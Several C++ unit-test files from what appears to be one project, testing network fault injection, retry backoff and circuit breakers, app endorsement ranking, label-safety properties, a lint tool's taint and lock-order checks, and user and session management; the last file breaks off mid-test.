// Records virtual delays instead of sleeping: chaos runs finish in
// milliseconds of real time no matter how much virtual waiting they do.
SleepFn recording_sleep(std::vector<util::Micros>& out) {
  return [&out](util::Micros delay) { out.push_back(delay); };
}

TEST(FaultInjectionSchedule, ScriptedActionsConsumeInOrderThenRunClean) {
  FaultSchedule schedule = FaultSchedule::scripted(
      {FaultAction{FaultKind::kShortRead, 0, 3},
       FaultAction{FaultKind::kDrop}},
      {FaultAction{FaultKind::kReset}});
  EXPECT_EQ(schedule.next_read().kind, FaultKind::kShortRead);
  EXPECT_EQ(schedule.next_read().kind, FaultKind::kDrop);
  EXPECT_EQ(schedule.next_read().kind, FaultKind::kNone);  // exhausted
  EXPECT_EQ(schedule.next_write().kind, FaultKind::kReset);
  EXPECT_EQ(schedule.next_write().kind, FaultKind::kNone);
}

TEST(FaultInjectionSchedule, SeededDrawsReplayExactlyForSameSeed) {
  FaultSchedule::Profile profile;
  profile.delay_probability = 0.2;
  profile.short_read_probability = 0.2;
  profile.drop_probability = 0.1;
  profile.reset_probability = 0.1;
  FaultSchedule first = FaultSchedule::seeded(42, profile);
  FaultSchedule second = FaultSchedule::seeded(42, profile);
  for (int i = 0; i < 500; ++i) {
    const FaultAction a = first.next_read();
    const FaultAction b = second.next_read();
    EXPECT_EQ(a.kind, b.kind) << "read op " << i;
    EXPECT_EQ(a.delay_micros, b.delay_micros) << "read op " << i;
    EXPECT_EQ(a.bytes, b.bytes) << "read op " << i;
    EXPECT_EQ(first.next_write().kind, second.next_write().kind)
        << "write op " << i;
  }
}

TEST(FaultInjectionSchedule, DifferentSeedsDiverge) {
  FaultSchedule::Profile profile;
  profile.drop_probability = 0.5;
  FaultSchedule a = FaultSchedule::seeded(1, profile);
  FaultSchedule b = FaultSchedule::seeded(2, profile);
  int differing = 0;
  for (int i = 0; i < 200; ++i)
    if (a.next_read().kind != b.next_read().kind) ++differing;
  EXPECT_GT(differing, 0);
}

TEST(FaultInjectionConnection, ShortReadCapsBytesPerCall) {
  auto [client, server] = make_pipe();
  ASSERT_TRUE(client->write("hello world").ok());
  FaultyConnection faulty(
      std::move(server),
      FaultSchedule::scripted({FaultAction{FaultKind::kShortRead, 0, 4}}, {}));
  char buf[64];
  auto n = faulty.read(buf, sizeof(buf));
  ASSERT_TRUE(n.ok());
  EXPECT_EQ(n.value(), 4u);  // capped by the injected budget
  n = faulty.read(buf, sizeof(buf));
  ASSERT_TRUE(n.ok());
  EXPECT_EQ(std::string(buf, n.value()), "o world");  // clean afterwards
}

TEST(FaultInjectionConnection, DropAndResetSurfaceDistinctErrors) {
  {
    auto [client, server] = make_pipe();
    FaultyConnection faulty(
        std::move(server),
        FaultSchedule::scripted({FaultAction{FaultKind::kDrop}}, {}));
    char buf[8];
    EXPECT_EQ(faulty.read(buf, sizeof(buf)).error().code, "net.timeout");
  }
  {
    auto [client, server] = make_pipe();
    FaultStats stats;
    FaultyConnection faulty(
        std::move(server),
        FaultSchedule::scripted({FaultAction{FaultKind::kReset}}, {}),
        no_sleep(), &stats);
    char buf[8];
    EXPECT_EQ(faulty.read(buf, sizeof(buf)).error().code, "net.reset");
    EXPECT_TRUE(faulty.closed());
    EXPECT_EQ(stats.resets.load(), 1u);
  }
}

TEST(FaultInjectionConnection, PartialWriteDeliversPrefixThenResets) {
  auto [client, server] = make_pipe();
  FaultyConnection faulty(
      std::move(client),
      FaultSchedule::scripted({},
                              {FaultAction{FaultKind::kPartialWrite, 0, 5}}));
  EXPECT_EQ(faulty.write("abcdefghij").error().code, "net.reset");
  auto delivered = server->read_available();
  ASSERT_TRUE(delivered.ok());
  EXPECT_EQ(delivered.value(), "abcde");  // the prefix hit the wire
}

TEST(FaultInjectionConnection, DelayGoesThroughInjectedSleeper) {
  std::vector<util::Micros> slept;
  auto [client, server] = make_pipe();
  ASSERT_TRUE(client->write("x").ok());
  FaultyConnection faulty(
      std::move(server),
      FaultSchedule::scripted({FaultAction{FaultKind::kDelay, 1234}}, {}),
      recording_sleep(slept));
  char buf[8];
  ASSERT_TRUE(faulty.read(buf, sizeof(buf)).ok());
  ASSERT_EQ(slept.size(), 1u);
  EXPECT_EQ(slept[0], 1234);
}

TEST(FaultInjectionBackoff, DelaysGrowExponentiallyWithinJitterBounds) {
  RetryPolicy policy;
  policy.max_attempts = 6;
  policy.initial_backoff = 1000;
  policy.multiplier = 2.0;
  policy.max_backoff = 1'000'000;
  policy.jitter = 0.2;
  Backoff backoff(policy);
  util::Micros expected = policy.initial_backoff;
  for (int attempt = 1; attempt < policy.max_attempts; ++attempt) {
    const util::Micros delay = backoff.next_delay();
    EXPECT_GE(delay, static_cast<util::Micros>(expected * 0.8 - 1))
        << "attempt " << attempt;
    EXPECT_LE(delay, static_cast<util::Micros>(expected * 1.2 + 1))
        << "attempt " << attempt;
    expected = std::min<util::Micros>(
        static_cast<util::Micros>(expected * policy.multiplier),
        policy.max_backoff);
  }
  EXPECT_EQ(backoff.next_delay(), 0);  // budget used up
  EXPECT_TRUE(backoff.exhausted());
}

TEST(FaultInjectionBackoff, SameSeedSameDelaySequence) {
  RetryPolicy policy;
  policy.max_attempts = 5;
  policy.seed = 99;
  Backoff a(policy);
  Backoff b(policy);
  for (int i = 0; i < policy.max_attempts; ++i)
    EXPECT_EQ(a.next_delay(), b.next_delay()) << "attempt " << i;
}

TEST(FaultInjectionBackoff, RetryableErrorsAreTransportLevelOnly) {
  EXPECT_TRUE(retryable_error(util::Error{"net.io", ""}));
  EXPECT_TRUE(retryable_error(util::Error{"net.timeout", ""}));
  EXPECT_TRUE(retryable_error(util::Error{"net.reset", ""}));
  EXPECT_TRUE(retryable_error(util::Error{"net.unreachable", ""}));
  EXPECT_TRUE(retryable_error(util::Error{"http.incomplete", ""}));
  EXPECT_FALSE(retryable_error(util::Error{"http.parse", ""}));
  EXPECT_FALSE(retryable_error(util::Error{"fed.mirror_unauthorized", ""}));
  EXPECT_FALSE(retryable_error(util::Error{"net.closed", ""}));
}

TEST(FaultInjectionBreaker, OpensAfterThresholdAndFailsFast) {
  util::SimClock clock;
  CircuitBreaker breaker(clock, {.failure_threshold = 3,
                                 .open_cooldown = 1'000'000,
                                 .half_open_probes = 1});
  EXPECT_EQ(breaker.state(), CircuitBreaker::State::kClosed);
  for (int i = 0; i < 3; ++i) {
    EXPECT_TRUE(breaker.allow());
    breaker.record_failure();
  }
  EXPECT_EQ(breaker.state(), CircuitBreaker::State::kOpen);
  EXPECT_FALSE(breaker.allow());  // fails fast, no probe
  EXPECT_EQ(breaker.rejected_total(), 1u);
}

TEST(FaultInjectionBreaker, HalfOpenProbeRecloseOnSuccess) {
  util::SimClock clock;
  CircuitBreaker breaker(clock, {.failure_threshold = 1,
                                 .open_cooldown = 1'000'000,
                                 .half_open_probes = 1});
  ASSERT_TRUE(breaker.allow());
  breaker.record_failure();
  ASSERT_EQ(breaker.state(), CircuitBreaker::State::kOpen);

  clock.advance(999'999);
  EXPECT_FALSE(breaker.allow());  // cooldown not yet elapsed
  clock.advance(1);
  EXPECT_EQ(breaker.state(), CircuitBreaker::State::kHalfOpen);
  EXPECT_TRUE(breaker.allow());   // the probe slot
  EXPECT_FALSE(breaker.allow());  // only one probe allowed
  breaker.record_success();
  EXPECT_EQ(breaker.state(), CircuitBreaker::State::kClosed);
  EXPECT_EQ(breaker.consecutive_failures(), 0);
}

TEST(FaultInjectionBreaker, HalfOpenProbeReopensOnFailure) {
  util::SimClock clock;
  CircuitBreaker breaker(clock, {.failure_threshold = 1,
                                 .open_cooldown = 500'000,
                                 .half_open_probes = 1});
  ASSERT_TRUE(breaker.allow());
  breaker.record_failure();
  clock.advance(500'000);
  ASSERT_TRUE(breaker.allow());  // half-open probe
  breaker.record_failure();
  EXPECT_EQ(breaker.state(), CircuitBreaker::State::kOpen);
  EXPECT_FALSE(breaker.allow());  // cooldown restarted
  clock.advance(500'000);
  EXPECT_TRUE(breaker.allow());
}

// A factory over in-memory pipes whose server side answers each dial
// according to a script of behaviors.
enum class ServerMood { kHealthy, kResetting, kBusy };

ConnectionFactory scripted_server(std::vector<ServerMood> moods,
                                  std::shared_ptr<int> dials) {
  return [moods = std::move(moods),
          dials]() -> util::Result<std::unique_ptr<Connection>> {
    const ServerMood mood = static_cast<std::size_t>(*dials) < moods.size()
                                ? moods[static_cast<std::size_t>(*dials)]
                                : ServerMood::kHealthy;
    ++*dials;
    auto [client, server] = make_pipe();
    switch (mood) {
      case ServerMood::kHealthy: {
        HttpResponse ok = HttpResponse::text(200, "fine");
        ok.headers.set("Connection", "close");
        (void)server->write(ok.to_wire());
        break;
      }
      case ServerMood::kBusy: {
        HttpResponse busy = HttpResponse::text(503, "overloaded\n");
        busy.headers.set("Retry-After", "1");
        busy.headers.set("Connection", "close");
        (void)server->write(busy.to_wire());
        break;
      }
      case ServerMood::kResetting:
        server->close();  // EOF before any response → http.incomplete
        break;
    }
    return std::unique_ptr<Connection>(std::move(client));
  };
}

TEST(FaultInjectionRetry, FlappingServerSucceedsWithinBudget) {
  auto dials = std::make_shared<int>(0);
  std::vector<util::Micros> slept;
  HttpClient client;
  HttpClient::RetryStats stats;
  RetryPolicy policy;
  policy.max_attempts = 3;
  policy.initial_backoff = 1000;
  auto response = client.roundtrip_with_retry(
      scripted_server({ServerMood::kResetting, ServerMood::kResetting,
                       ServerMood::kHealthy},
                      dials),
      HttpRequest{}, policy, recording_sleep(slept), &stats);
  ASSERT_TRUE(response.ok());
  EXPECT_EQ(response.value().status, 200);
  EXPECT_EQ(stats.attempts, 3);
  EXPECT_EQ(*dials, 3);
  EXPECT_EQ(slept.size(), 2u);  // waited before attempts 2 and 3
}

TEST(FaultInjectionRetry, ExhaustedBudgetReturnsLastError) {
  auto dials = std::make_shared<int>(0);
  std::vector<util::Micros> slept;
  HttpClient client;
  RetryPolicy policy;
  policy.max_attempts = 3;
  auto response = client.roundtrip_with_retry(
      scripted_server({ServerMood::kResetting, ServerMood::kResetting,
                       ServerMood::kResetting, ServerMood::kResetting},
                      dials),
      HttpRequest{}, policy, recording_sleep(slept));
  ASSERT_FALSE(response.ok());
  EXPECT_EQ(response.error().code, "http.incomplete");
  EXPECT_EQ(*dials, 3);  // exactly max_attempts dials, no more
}

TEST(FaultInjectionRetry, HonorsRetryAfterButCapsAtPolicyMax) {
  auto dials = std::make_shared<int>(0);
  std::vector<util::Micros> slept;
  HttpClient client;
  RetryPolicy policy;
  policy.max_attempts = 2;
  policy.initial_backoff = 10;
  policy.max_backoff = 200'000;  // < the server's 1s Retry-After
  auto response = client.roundtrip_with_retry(
      scripted_server({ServerMood::kBusy, ServerMood::kHealthy}, dials),
      HttpRequest{}, policy, recording_sleep(slept));
  ASSERT_TRUE(response.ok());
  EXPECT_EQ(response.value().status, 200);
  ASSERT_EQ(slept.size(), 1u);
  // The 1s hint was respected up to the cap: longer than the tiny
  // backoff, but never past max_backoff.
  EXPECT_EQ(slept[0], 200'000);
}

TEST(FaultInjectionRetry, NonRetryableStatusReturnsImmediately) {
  auto dials = std::make_shared<int>(0);
  HttpClient client;
  RetryPolicy policy;
  policy.max_attempts = 5;
  // Healthy server returning 200: one dial, done. (4xx/5xx-other-than-503
  // would behave the same — only 503 retries.)
  auto response = client.roundtrip_with_retry(
      scripted_server({ServerMood::kHealthy}, dials), HttpRequest{}, policy,
      no_sleep());
  ASSERT_TRUE(response.ok());
  EXPECT_EQ(*dials, 1);
}

// ---- Seeded chaos sweep over the HTTP server -------------------------------

struct ChaosTally {
  int handled = 0;
  std::map<std::string, int> errors;  // error code → count
  std::uint64_t faults = 0;
  util::Micros virtual_sleep = 0;

  bool operator==(const ChaosTally& other) const {
    return handled == other.handled && errors == other.errors &&
           faults == other.faults && virtual_sleep == other.virtual_sleep;
  }
};

// Pushes `requests` well-formed requests through HttpServer, one faulty
// pipe each, faults drawn from a per-connection seed. Fully virtual: no
// real sleeping, no real sockets, so the tally is a pure function of
// (base_seed, profile).
ChaosTally chaos_run(std::uint64_t base_seed, int requests) {
  FaultSchedule::Profile profile;
  profile.delay_probability = 0.05;
  profile.short_read_probability = 0.10;
  profile.partial_write_probability = 0.03;
  profile.drop_probability = 0.04;
  profile.reset_probability = 0.03;

  ChaosTally tally;
  FaultStats faults;
  HttpServer http([](const HttpRequest& request) {
    return HttpResponse::text(200, "echo:" + request.body);
  });
  for (int i = 0; i < requests; ++i) {
    auto [client, server] = make_pipe();
    HttpRequest request;
    request.method = Method::kPost;
    request.target = "/chaos";
    request.body = "payload-" + std::to_string(i);
    request.headers.set("Connection", "close");
    EXPECT_TRUE(client->write(request.to_wire()).ok()) << i;
    FaultyConnection faulty(
        std::move(server),
        FaultSchedule::seeded(base_seed + static_cast<std::uint64_t>(i),
                              profile),
        [&tally](util::Micros delay) { tally.virtual_sleep += delay; },
        &faults);
    auto handled = http.handle_one(faulty);
    if (handled.ok() && handled.value()) {
      ++tally.handled;
    } else if (!handled.ok()) {
      ++tally.errors[handled.error().code];
    }
  }
  tally.faults = faults.total();
  return tally;
}

TEST(FaultInjectionChaos, SweepIsDeterministicForFixedSeed) {
  const ChaosTally first = chaos_run(0xC4A05, 200);
  const ChaosTally second = chaos_run(0xC4A05, 200);
  EXPECT_TRUE(first == second);

  // The profile injects ~25% per-op fault probability: a healthy run
  // still serves most requests, and at least some faults actually fired.
  EXPECT_GT(first.handled, 100);
  EXPECT_GT(first.faults, 0u);
  int errored = 0;
  for (const auto& [code, n] : first.errors) errored += n;
  EXPECT_EQ(first.handled + errored, 200);
  EXPECT_GT(errored, 0);
}

TEST(FaultInjectionChaos, DifferentSeedsProduceDifferentRuns) {
  const ChaosTally a = chaos_run(1, 200);
  const ChaosTally b = chaos_run(2, 200);
  EXPECT_FALSE(a == b);
}

// ---- Federation: retry + circuit breaker over an injected-fault wire -------

class FaultInjectionFed : public ::testing::Test {
 protected:
  FaultInjectionFed()
      : provider_a_(platform::ProviderConfig{.name = "providerA"}, clock_),
        provider_b_(platform::ProviderConfig{.name = "providerB"}, clock_),
        node_a_("providerA", provider_a_, network_),
        node_b_("providerB", provider_b_, network_) {}

  void SetUp() override {
    ASSERT_TRUE(provider_a_.signup("bob", "pwd").ok());
    ASSERT_TRUE(provider_b_.signup("bob", "pwd").ok());
    node_a_.mirrors().authorize("bob", "providerB");
    node_b_.mirrors().authorize("bob", "providerA");
    util::Json photo;
    photo["title"] = "sunset";
    ASSERT_TRUE(node_a_.put_user_record("bob", "photos", "p1", photo).ok());
  }

  // Decorator that resets the first `failures` dialed connections on
  // their first write, then passes connections through untouched.
  void fail_first_dials(int failures) {
    auto remaining = std::make_shared<int>(failures);
    node_b_.set_connection_decorator(
        [remaining](std::unique_ptr<Connection> inner)
            -> std::unique_ptr<Connection> {
          if (*remaining > 0) {
            --*remaining;
            return std::make_unique<FaultyConnection>(
                std::move(inner),
                FaultSchedule::scripted({},
                                        {FaultAction{FaultKind::kReset}}),
                no_sleep());
          }
          return inner;
        });
  }

  util::SimClock clock_;
  net::InMemoryNetwork network_;
  platform::Provider provider_a_;
  platform::Provider provider_b_;
  fed::Node node_a_;
  fed::Node node_b_;
};

TEST_F(FaultInjectionFed, SyncRetriesTransientFaultsAndSucceeds) {
  fail_first_dials(2);  // attempts 1 and 2 reset; attempt 3 is clean
  node_b_.set_retry_policy(RetryPolicy{.max_attempts = 3});
  auto stats = node_b_.sync_from("providerA");
  ASSERT_TRUE(stats.ok()) << stats.error().code;
  EXPECT_EQ(stats.value().applied, 1u);
  EXPECT_EQ(node_b_.breaker_for("providerA").state(),
            CircuitBreaker::State::kClosed);
}

TEST_F(FaultInjectionFed, BreakerOpensAfterRepeatedSyncFailuresThenRecovers) {
  node_b_.set_retry_policy(RetryPolicy{.max_attempts = 1});
  fail_first_dials(1000);  // effectively: the peer is down
  for (int i = 0; i < 3; ++i) {
    auto stats = node_b_.sync_from("providerA");
    ASSERT_FALSE(stats.ok());
    EXPECT_EQ(stats.error().code, "net.reset") << i;
  }
  EXPECT_EQ(node_b_.breaker_for("providerA").state(),
            CircuitBreaker::State::kOpen);

  // While open: fail fast without dialing.
  auto rejected = node_b_.sync_from("providerA");
  ASSERT_FALSE(rejected.ok());
  EXPECT_EQ(rejected.error().code, "fed.circuit_open");

  // Breaker state is visible at /metrics (2 = open).
  EXPECT_EQ(provider_b_.metrics()
                .gauge("w5_fed_breaker_state{peer=\"providerA\"}")
                .value(),
            2);

  // After the cooldown the half-open probe goes through; the wire is
  // healthy again, so one successful sync re-closes the breaker.
  fail_first_dials(0);
  clock_.advance(1'000'000);
  auto recovered = node_b_.sync_from("providerA");
  ASSERT_TRUE(recovered.ok()) << recovered.error().code;
  EXPECT_EQ(recovered.value().applied, 1u);
  EXPECT_EQ(node_b_.breaker_for("providerA").state(),
            CircuitBreaker::State::kClosed);
  EXPECT_EQ(provider_b_.metrics()
                .gauge("w5_fed_breaker_state{peer=\"providerA\"}")
                .value(),
            0);
}

}  // namespace
}  // namespace w5::net
