// §3.2 editors over HTTP: endorsement, adoption-weighted credit, and the
// difc endpoint-safety property suite.
#include <gtest/gtest.h>

#include "apps/apps.h"
#include "core/gateway.h"
#include "core/provider.h"
#include "difc/endpoint.h"
#include "util/rng.h"

namespace w5 {
namespace {

using net::Method;

TEST(EndorseEndpointTest, EndorsementBoostsSearchRank) {
  util::SimClock clock;
  platform::Provider provider(platform::ProviderConfig{}, clock);
  apps::register_standard_apps(provider);
  ASSERT_TRUE(provider.signup("editor-ed", "edpw").ok());
  const std::string ed = provider.login("editor-ed", "edpw").value();

  // Two equally-unknown modules; ed endorses one.
  const auto handler = [](platform::AppContext&) {
    return net::HttpResponse::text(200, "x");
  };
  for (const char* name : {"alpha", "beta"}) {
    platform::Module module;
    module.developer = "newdev";
    module.name = name;
    module.version = "1.0";
    module.manifest.description = "widget tool";
    module.handler = handler;
    ASSERT_TRUE(provider.modules().add(module).ok());
  }
  ASSERT_EQ(provider.http(Method::kPost, "/endorse",
                          "app=newdev/beta@1.0&confidence=0.9", ed).status,
            200);

  const auto hits = provider.http(Method::kGet, "/search?q=widget");
  ASSERT_EQ(hits.status, 200);
  EXPECT_LT(hits.body.find("newdev/beta@1.0"),
            hits.body.find("newdev/alpha@1.0"));
}

TEST(EndorseEndpointTest, Validation) {
  util::SimClock clock;
  platform::Provider provider(platform::ProviderConfig{}, clock);
  apps::register_standard_apps(provider);
  ASSERT_TRUE(provider.signup("ed", "edpw").ok());
  const std::string ed = provider.login("ed", "edpw").value();
  EXPECT_EQ(provider.http(Method::kPost, "/endorse",
                          "app=photoco/photos@1.0").status,
            401);
  EXPECT_EQ(provider.http(Method::kPost, "/endorse", "", ed).status, 400);
  EXPECT_EQ(provider.http(Method::kPost, "/endorse", "app=no/such", ed)
                .status,
            404);
  EXPECT_EQ(provider.http(Method::kPost, "/endorse",
                          "app=photoco/photos@1.0&confidence=2", ed).status,
            400);
  EXPECT_EQ(provider.http(Method::kPost, "/endorse",
                          "app=photoco/photos@1.0&confidence=0.5", ed)
                .status,
            200);
}

TEST(EndorseEndpointTest, AdoptionCreditsTheEndorsingEditor) {
  rank::EditorBoard board;
  board.endorse("early-bird", "m1", 1.0);
  board.endorse("latecomer", "m2", 1.0);
  // Weights are normalized to the leading editor, so both start at 1.0.
  EXPECT_DOUBLE_EQ(board.editor_weight("latecomer"), 1.0);
  // m1 gets adopted heavily: early-bird's picks prove out, and the
  // latecomer's *relative* weight falls.
  for (int i = 0; i < 100; ++i) {
    for (const auto& editor : board.endorsers_of("m1"))
      board.credit(editor, 0.01);
  }
  EXPECT_DOUBLE_EQ(board.editor_weight("early-bird"), 1.0);
  EXPECT_LT(board.editor_weight("latecomer"), 1.0);
  EXPECT_LT(board.editor_weight("latecomer"),
            board.editor_weight("early-bird"));
}

// ---- Property: endpoint safety is exactly reachability of the endpoint
// labels under the owner's authority.
class EndpointSafetyProperty
    : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(EndpointSafetyProperty, SafeForMatchesChangeIsSafe) {
  util::Rng rng(GetParam());
  for (int round = 0; round < 400; ++round) {
    std::vector<difc::Tag> s_owner, i_owner, s_ep, i_ep;
    std::vector<difc::Capability> caps;
    for (std::uint64_t id = 1; id <= 6; ++id) {
      const difc::Tag tag(id);
      if (rng.next_bool()) s_owner.push_back(tag);
      if (rng.next_bool(0.3)) i_owner.push_back(tag);
      if (rng.next_bool()) s_ep.push_back(tag);
      if (rng.next_bool(0.3)) i_ep.push_back(tag);
      if (rng.next_bool(0.4)) caps.push_back(difc::plus(tag));
      if (rng.next_bool(0.4)) caps.push_back(difc::minus(tag));
    }
    const difc::LabelState owner{difc::Label(s_owner), difc::Label(i_owner),
                                 difc::CapabilitySet(caps)};
    const difc::Endpoint endpoint{difc::Label(s_ep), difc::Label(i_ep)};
    const bool expected =
        owner.change_is_safe(owner.secrecy(), endpoint.secrecy()) &&
        owner.change_is_safe(owner.integrity(), endpoint.integrity());
    EXPECT_EQ(endpoint.safe_for(owner), expected);
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, EndpointSafetyProperty,
                         ::testing::Values(7, 8, 9));

}  // namespace
}  // namespace w5
