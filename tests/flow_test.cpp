// Tests for tools/w5flow.cpp (DESIGN.md §19) and the runtime lock-order
// witness that backs it. Three layers:
//
//   1. The real src/ tree passes both passes clean against the
//      checked-in rank registry (the same invocation the ci.sh `lint`
//      stage and the w5flow_clean_tree ctest run).
//   2. The seeded fixture trees fail with the promised diagnostics —
//      the taint leak with its full interprocedural call chain, the
//      ABBA pair with both acquisition sites of the cycle.
//   3. The witness aborts a deliberate rank inversion at runtime (and
//      stays silent for the documented order), using the same
//      lock_ranks.h constants the registry cross-checks.

#include <gtest/gtest.h>

#include <array>
#include <cstdio>
#include <string>

#include "util/lock_ranks.h"
#include "util/thread_annotations.h"

namespace {

struct FlowResult {
  int exit_code = -1;
  std::string output;
};

FlowResult run_flow(const std::string& root,
                    const std::string& lock_order = "") {
  std::string cmd = std::string(W5FLOW_BINARY) + " " + root;
  if (!lock_order.empty()) cmd += " --lock-order " + lock_order;
  cmd += " 2>&1";
  FlowResult result;
  FILE* pipe = popen(cmd.c_str(), "r");
  if (pipe == nullptr) return result;
  std::array<char, 512> chunk;
  while (fgets(chunk.data(), chunk.size(), pipe) != nullptr)
    result.output += chunk.data();
  const int status = pclose(pipe);
  result.exit_code = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
  return result;
}

std::string fixture(const std::string& name) {
  return std::string(W5_LINT_FIXTURES_DIR) + "/" + name;
}

TEST(FlowTest, CleanTreePassesBothPasses) {
  const FlowResult r = run_flow(W5_SRC_DIR, W5_LOCK_ORDER_FILE);
  EXPECT_EQ(r.exit_code, 0) << r.output;
  EXPECT_NE(r.output.find("0 violation(s)"), std::string::npos) << r.output;
  // The three sanctioned native() sites are suppressed with in-file
  // justifications, not invisible.
  EXPECT_NE(r.output.find("3 suppressed"), std::string::npos) << r.output;
}

TEST(FlowTest, FlagsInterproceduralTaintLeakWithCallChain) {
  const FlowResult r = run_flow(fixture("flow_taint"));
  EXPECT_EQ(r.exit_code, 1) << r.output;
  EXPECT_NE(r.output.find("[taint]"), std::string::npos) << r.output;
  // The leak is only visible across three functions; the diagnostic
  // must carry the whole chain, not just the sink line.
  EXPECT_NE(r.output.find("handle_put"), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("emit_debug"), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("log_info"), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("1 violation(s)"), std::string::npos) << r.output;
}

TEST(FlowTest, FlagsAbbaLockCycleWithBothSites) {
  const FlowResult r = run_flow(fixture("flow_lockcycle"));
  EXPECT_EQ(r.exit_code, 1) << r.output;
  EXPECT_NE(r.output.find("[lockcycle]"), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("PairedCounters::left_mutex_"), std::string::npos)
      << r.output;
  EXPECT_NE(r.output.find("PairedCounters::right_mutex_"), std::string::npos)
      << r.output;
  // Both acquisition sites of the cycle are named.
  EXPECT_NE(r.output.find("bump_left_then_right"), std::string::npos)
      << r.output;
  EXPECT_NE(r.output.find("bump_right_then_left"), std::string::npos)
      << r.output;
}

TEST(FlowTest, BadUsageExitsTwo) {
  const FlowResult r = run_flow(std::string(W5_SRC_DIR) + "/no/such/dir");
  EXPECT_EQ(r.exit_code, 2) << r.output;
}

// The registry encodes a partial order; these are the load-bearing
// relations the tree actually exercises (log-under-lock, the
// kernel-leafward DIFC plane), pinned here so a renumbering that
// reorders them fails fast even in builds without the witness.
TEST(FlowTest, RankRegistryEncodesTheDocumentedOrder) {
  namespace lr = w5::util::lockrank;
  // Shards append to the WAL and check labels while holding their lock.
  EXPECT_LT(lr::kStoreShard, lr::kWal);
  EXPECT_LT(lr::kStoreShard, lr::kLabelTable);
  EXPECT_LT(lr::kLabelTable, lr::kFlowCache);
  // The DIFC kernel is leaf-ward of the services that call into it
  // under their own locks (pinned empirically by the witness).
  EXPECT_LT(lr::kUserDirectory, lr::kKernel);
  EXPECT_LT(lr::kFileSystem, lr::kKernel);
  EXPECT_LT(lr::kKernel, lr::kTagRegistry);
  // Everything may log; the sink is the outermost leaf.
  EXPECT_LT(lr::kKernel, lr::kLog);
  EXPECT_LT(lr::kWal, lr::kLog);
  EXPECT_LT(lr::kMetricsRegistry, lr::kLog);
}

#if defined(W5_LOCK_WITNESS)

using FlowWitnessDeathTest = ::testing::Test;

TEST(FlowWitnessDeathTest, AbortsOnRankInversion) {
  ::testing::FLAGS_gtest_death_test_style = "threadsafe";
  namespace lr = w5::util::lockrank;
  // WAL (60) then shard (44): blocking on a lower rank while holding a
  // higher one is exactly the inversion the witness exists to catch.
  EXPECT_DEATH(
      {
        w5::util::Mutex outer(lr::kWal, "test::outer_wal");
        w5::util::Mutex inner(lr::kStoreShard, "test::inner_shard");
        outer.lock();
        inner.lock();
      },
      "rank inversion");
}

TEST(FlowWitnessDeathTest, DocumentedOrderAndSiblingRanksPass) {
  namespace lr = w5::util::lockrank;
  w5::util::Mutex outer(lr::kStoreShard, "test::shard_a");
  w5::util::Mutex sibling(lr::kStoreShard, "test::shard_b");
  w5::util::Mutex inner(lr::kWal, "test::wal");
  outer.lock();
  sibling.lock();  // equal ranks may nest (sibling shards)
  inner.lock();
  EXPECT_EQ(w5::util::witness::held_depth(), 3u);
  inner.unlock();
  sibling.unlock();
  outer.unlock();
  EXPECT_EQ(w5::util::witness::held_depth(), 0u);
}

#endif  // W5_LOCK_WITNESS

}  // namespace
