#include <gtest/gtest.h>

#include "core/auth.h"
#include "core/policy.h"
#include "core/provider.h"
#include "core/user.h"

namespace w5::platform {
namespace {

TEST(UserDirectoryTest, CreateMintsThreeTagsAndGlobalPlus) {
  os::Kernel kernel;
  UserDirectory users(kernel);
  auto bob = users.create("bob", "Bob", "hunter2");
  ASSERT_TRUE(bob.ok());
  EXPECT_TRUE(bob.value()->secrecy_tag.valid());
  EXPECT_TRUE(bob.value()->write_tag.valid());
  EXPECT_TRUE(bob.value()->read_tag.valid());
  EXPECT_EQ(kernel.tags().describe(bob.value()->secrecy_tag), "sec(bob)");
  // sec(bob)+ is global; wp/rp are not.
  EXPECT_TRUE(kernel.global_caps().has_plus(bob.value()->secrecy_tag));
  EXPECT_FALSE(kernel.global_caps().has_plus(bob.value()->write_tag));
  EXPECT_FALSE(kernel.global_caps().has_plus(bob.value()->read_tag));
}

TEST(UserDirectoryTest, RejectsBadIdsAndDuplicates) {
  os::Kernel kernel;
  UserDirectory users(kernel);
  EXPECT_EQ(users.create("", "x", "pw").error().code, "user.invalid");
  EXPECT_EQ(users.create("Bob", "x", "pw").error().code, "user.invalid");
  EXPECT_EQ(users.create("has space", "x", "pw").error().code,
            "user.invalid");
  EXPECT_EQ(users.create("bob", "x", "pw").error().code, "user.invalid");
  ASSERT_TRUE(users.create("bob", "x", "pwd").ok());
  EXPECT_EQ(users.create("bob", "x", "pwd").error().code, "user.exists");
  EXPECT_EQ(users.create("amy", "x", "ab").error().code, "user.invalid");
}

TEST(UserDirectoryTest, PasswordVerification) {
  os::Kernel kernel;
  UserDirectory users(kernel);
  ASSERT_TRUE(users.create("bob", "Bob", "hunter2").ok());
  EXPECT_TRUE(users.verify_password("bob", "hunter2"));
  EXPECT_FALSE(users.verify_password("bob", "hunter3"));
  EXPECT_FALSE(users.verify_password("nobody", "hunter2"));
  // Hashes are salted per user: same password, different hash.
  ASSERT_TRUE(users.create("amy", "Amy", "hunter2").ok());
  EXPECT_NE(users.find("bob")->password_hash, users.find("amy")->password_hash);
}

TEST(UserDirectoryTest, TagOwnerLookup) {
  os::Kernel kernel;
  UserDirectory users(kernel);
  ASSERT_TRUE(users.create("bob", "Bob", "pwd").ok());
  const UserAccount* bob = users.find("bob");
  EXPECT_EQ(users.owner_of_tag(bob->secrecy_tag)->id, "bob");
  EXPECT_EQ(users.owner_of_tag(bob->write_tag)->id, "bob");
  EXPECT_EQ(users.owner_of_tag(difc::Tag(9999)), nullptr);
  EXPECT_EQ(users.user_ids(), (std::vector<std::string>{"bob"}));
}

TEST(SessionManagerTest, CreateValidateRevoke) {
  util::SimClock clock;
  SessionManager sessions(clock, /*ttl=*/1000);
  const std::string token = sessions.create("bob");
  EXPECT_FALSE(token.empty());
  EXPECT_EQ(sessions.validate(token), "bob");
  EXPECT_FALSE(sessions.validate("forged-token").has_value());
  sessions.revoke(token);
  EXPECT_FALSE(sessions.validate(token).has_value());
}

TEST(SessionManagerTest, ExpiryAndSlidingRefresh) {
  util::SimClock clock;
  SessionManager sessions(clock, /*ttl=*/1000);
  const std::string token = sessions.create("bob");
  clock.advance(900);
  EXPECT_EQ(sessions.validate(token), "bob");  // refreshes expiry
  clock.advance(900);
